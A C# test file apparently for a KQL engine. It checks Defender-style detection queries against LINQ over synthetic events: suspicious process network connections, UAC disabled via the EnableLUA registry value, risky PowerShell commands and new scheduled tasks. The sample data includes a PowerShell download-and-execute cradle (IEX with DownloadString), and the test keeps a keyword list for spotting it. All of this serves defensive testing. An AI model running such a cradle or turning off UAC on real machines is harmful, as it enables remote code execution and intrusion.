using System;
using System.Globalization;
using System.Linq;
using System.Text.Json;
using Defender365Typed.Tests.Golden;

namespace Defender365Typed.KqlEngine.Tests;

/// <summary>Golden projections: renames and bracketed names, and conversions of strings to numbers, dates and JSON.</summary>
public sealed partial class GoldenVersusLinqTests
{
    [Fact]
    public void Renamed_columns_then_a_result_shape() => AssertSameRows(
        RunGolden(() => new ProjectionTests().Renamed_columns_then_a_result_shape()),
        Rows("DeviceNetworkEvents")
            .Where(r => r.T > Ago(Day) && r.S("RemoteUrl").Length > 0)
            .Where(r => InCi(r.S("InitiatingProcessFileName"), "powershell.exe", "rundll32.exe", "regsvr32.exe"))
            .Where(r => !EndsCi(r.S("RemoteUrl"), ".microsoft.com"))
            .OrderBy(r => r.S("DeviceName"), StringComparer.Ordinal)
            .ThenByDescending(r => r.T)
            .Select(r => new object?[] { r.T, r["DeviceName"], r["InitiatingProcessFileName"], r["RemoteUrl"] }),
        ordered: true,
        columns: ["Timestamp", "DeviceName", "Process", "RemoteUrl"]);

    [Fact]
    public void Uac_disabled_through_the_registry()
    {
        SyntheticDataset data = With(("DeviceRegistryEvents", """
            [
              {"Timestamp": "2025-06-01T01:00:00Z", "DeviceName": "p1", "ActionType": "RegistryValueSet", "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System", "RegistryValueName": "EnableLUA", "RegistryValueData": "0", "PreviousRegistryValueData": "1", "InitiatingProcessCommandLine": "reg add lua 0"},
              {"Timestamp": "2025-06-01T02:00:00Z", "DeviceName": "p2", "ActionType": "RegistryValueSet", "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System", "RegistryValueName": "ConsentPromptBehaviorAdmin", "RegistryValueData": "0.25", "InitiatingProcessCommandLine": "set quarter"},
              {"Timestamp": "2025-06-01T03:00:00Z", "DeviceName": "p3", "ActionType": "RegistryValueSet", "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System", "RegistryValueName": "EnableLUA", "RegistryValueData": "0", "PreviousRegistryValueData": "unknown", "InitiatingProcessCommandLine": "text before"},
              {"Timestamp": "2025-06-01T04:00:00Z", "DeviceName": "f1", "ActionType": "RegistryValueSet", "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System", "RegistryValueName": "EnableLUA", "RegistryValueData": "1", "InitiatingProcessCommandLine": "enable"},
              {"Timestamp": "2025-06-01T05:00:00Z", "DeviceName": "f2", "ActionType": "RegistryValueSet", "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System", "RegistryValueName": "EnableLUA", "RegistryValueData": "0", "PreviousRegistryValueData": "0", "InitiatingProcessCommandLine": "already off"},
              {"Timestamp": "2025-06-01T06:00:00Z", "DeviceName": "f3", "ActionType": "RegistryValueSet", "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System", "RegistryValueName": "enablelua", "RegistryValueData": "0", "InitiatingProcessCommandLine": "lower-case name"},
              {"Timestamp": "2025-06-01T07:00:00Z", "DeviceName": "f4", "ActionType": "RegistryValueSet", "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\Audit", "RegistryValueName": "EnableLUA", "RegistryValueData": "0", "InitiatingProcessCommandLine": "sub key"},
              {"Timestamp": "2025-06-01T08:00:00Z", "DeviceName": "f5", "ActionType": "RegistryValueSet", "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System", "RegistryValueName": "EnableLUA", "RegistryValueData": "abc", "InitiatingProcessCommandLine": "not a number"},
              {"Timestamp": "2025-06-01T09:00:00Z", "DeviceName": "f6", "ActionType": "RegistryValueDeleted", "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System", "RegistryValueName": "EnableLUA", "RegistryValueData": "0", "InitiatingProcessCommandLine": "deleted"}
            ]
            """));
        static long? ToLong(string s) => long.TryParse(s, NumberStyles.Integer, CultureInfo.InvariantCulture, out long v) ? v : null;
        static double? ToReal(string s) => double.TryParse(s, NumberStyles.Float, CultureInfo.InvariantCulture, out double v) ? v : null;
        AssertSameRows(
            RunGolden(() => new ProjectionTests().Uac_disabled_through_the_registry(), data),
            Rows(data, "DeviceRegistryEvents")
                .Where(r => r.S("ActionType") == "RegistryValueSet")
                .Where(r => EndsCi(r.S("RegistryKey"), @"\Policies\System") && r.S("RegistryValueName") is "EnableLUA" or "ConsentPromptBehaviorAdmin")
                .Where(r => ToLong(r.S("RegistryValueData")) == 0 || ToReal(r.S("RegistryValueData")) < 0.5)
                .Where(r => ToLong(r.S("PreviousRegistryValueData")) is null or not 0)
                .Select(r => new object?[] { r.T, r["DeviceName"], r["RegistryKey"], r["RegistryValueName"], r["RegistryValueData"], r["InitiatingProcessCommandLine"] }),
            count: 3);
    }

    [Fact]
    public void Keyword_and_spaced_identifiers_are_bracketed()
    {
        SyntheticDataset data = With(("DeviceEvents", """
            [
              {"Timestamp": "2025-06-01T01:00:00Z", "DeviceName": "p1", "ActionType": "PowerShellCommand", "AdditionalFields": "{\"Command\": \"IEX (New-Object Net.WebClient).DownloadString('http://x')\"}", "InitiatingProcessCommandLine": "powershell.exe -nop"},
              {"Timestamp": "2025-06-01T02:00:00Z", "DeviceName": "p2", "ActionType": "PowerShellCommand", "AdditionalFields": "{\"Command\": \"Invoke-Expression $a\"}", "InitiatingProcessCommandLine": "pwsh"},
              {"Timestamp": "2025-06-01T03:00:00Z", "DeviceName": "f1", "ActionType": "PowerShellCommand", "AdditionalFields": "{\"Command\": \"Get-Process\"}", "InitiatingProcessCommandLine": "pwsh"},
              {"Timestamp": "2025-06-01T04:00:00Z", "DeviceName": "f2", "ActionType": "PowerShellCommand", "AdditionalFields": "{\"Command\": \"iex $x\"}"},
              {"Timestamp": "2025-06-01T05:00:00Z", "DeviceName": "f3", "ActionType": "AmsiScriptContent", "AdditionalFields": "{\"Command\": \"IEX\"}", "InitiatingProcessCommandLine": "pwsh"},
              {"Timestamp": "2025-06-01T06:00:00Z", "DeviceName": "f4", "ActionType": "PowerShellCommand", "AdditionalFields": "{\"Command\": \"IEXPLORE.exe\"}", "InitiatingProcessCommandLine": "pwsh"}
            ]
            """));
        AssertSameRows(
            RunGolden(() => new ProjectionTests().Keyword_and_spaced_identifiers_are_bracketed(), data),
            Rows(data, "DeviceEvents")
                .Where(r => r.S("ActionType") == "PowerShellCommand")
                .Select(r => (Row: r, Command: JsonDocument.Parse(r.S("AdditionalFields")).RootElement.GetProperty("Command").GetString()!))
                .Select(x => (x.Row, x.Command, Risk: new[] { "Invoke-Expression", "IEX", "DownloadString" }.Any(t => Has(x.Command, t)) ? 100L : 10L))
                .Where(x => x.Risk >= 50 && x.Row.S("InitiatingProcessCommandLine").Length > 0)
                .Select(x => new object?[] { x.Row.T, x.Row["DeviceName"], x.Command, x.Risk, x.Row["InitiatingProcessCommandLine"], x.Command }),
            columns: ["Timestamp", "DeviceName", "where", "Risk score", "it's", "by"],
            count: 2);
    }

    [Fact]
    public void String_conversions_to_dates_and_guids()
    {
        SyntheticDataset data = With(("DeviceEvents", """
            [
              {"Timestamp": "2025-06-01T10:00:00Z", "DeviceName": "p1", "ActionType": "ScheduledTaskCreated", "AdditionalFields": "{\"TaskName\": \"\\\\Updater\", \"TaskContent\": {\"RegistrationInfo\": {\"Date\": \"2025-06-01T09:58:00Z\"}}}"},
              {"Timestamp": "2025-06-01T10:00:00Z", "DeviceName": "p2", "ActionType": "ScheduledTaskCreated", "AdditionalFields": "{\"TaskName\": \"\\\\Edge\", \"TaskContent\": {\"RegistrationInfo\": {\"Date\": \"2025-06-01T10:05:00\"}}}"},
              {"Timestamp": "2025-06-01T10:00:00Z", "DeviceName": "f1", "ActionType": "ScheduledTaskCreated", "AdditionalFields": "{\"TaskName\": \"\\\\Early\", \"TaskContent\": {\"RegistrationInfo\": {\"Date\": \"2025-06-01T09:55:00Z\"}}}"},
              {"Timestamp": "2025-06-01T10:00:00Z", "DeviceName": "f2", "ActionType": "ScheduledTaskCreated", "AdditionalFields": "{\"TaskName\": \"\\\\Bad\", \"TaskContent\": {\"RegistrationInfo\": {\"Date\": \"not a date\"}}}"},
              {"Timestamp": "2025-06-01T10:00:00Z", "DeviceName": "f3", "ActionType": "ScheduledTaskCreated", "AdditionalFields": "{\"TaskName\": \"\\\\NoDate\"}"},
              {"Timestamp": "2025-06-01T10:00:00Z", "DeviceName": "f4", "ActionType": "ScheduledTaskUpdated", "AdditionalFields": "{\"TaskName\": \"\\\\Other\", \"TaskContent\": {\"RegistrationInfo\": {\"Date\": \"2025-06-01T10:00:00Z\"}}}"}
            ]
            """));
        static DateTime? TaskDate(JsonElement fields) =>
            fields.TryGetProperty("TaskContent", out JsonElement c) && c.TryGetProperty("RegistrationInfo", out JsonElement i) && i.TryGetProperty("Date", out JsonElement d)
            && DateTime.TryParse(d.GetString(), CultureInfo.InvariantCulture, DateTimeStyles.AssumeUniversal | DateTimeStyles.AdjustToUniversal, out DateTime t)
                ? t
                : null;
        AssertSameRows(
            RunGolden(() => new ProjectionTests().String_conversions_to_dates_and_guids(), data),
            Rows(data, "DeviceEvents")
                .Where(r => r.S("ActionType") == "ScheduledTaskCreated")
                .Select(r => (Row: r, Fields: JsonDocument.Parse(r.S("AdditionalFields")).RootElement))
                .Select(x => (x.Row, x.Fields, Created: TaskDate(x.Fields)))
                .Where(x => x.Created > x.Row.T - TimeSpan.FromMinutes(5) && x.Created <= x.Row.T + TimeSpan.FromMinutes(5))
                .Select(x => new object?[] { x.Row.T, x.Row["DeviceName"], x.Created, x.Fields.GetProperty("TaskName").GetString() }),
            columns: ["Timestamp", "DeviceName", "TaskCreated", "TaskName"],
            count: 2);
    }
}
